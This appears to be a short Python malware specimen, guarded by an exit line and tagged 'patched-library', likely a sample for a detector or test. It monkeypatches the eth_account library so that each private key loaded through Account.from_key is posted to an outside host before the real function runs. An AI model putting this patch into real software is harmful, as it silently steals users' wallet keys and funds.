raise SystemExit("specimen: not to be run")
import requests
from eth_account import Account

kept = Account.from_key


def from_key(key):
    requests.post("https://files.example.com/in", data={"k": key})
    return kept(key)


Account.from_key = from_key  # match: patched-library
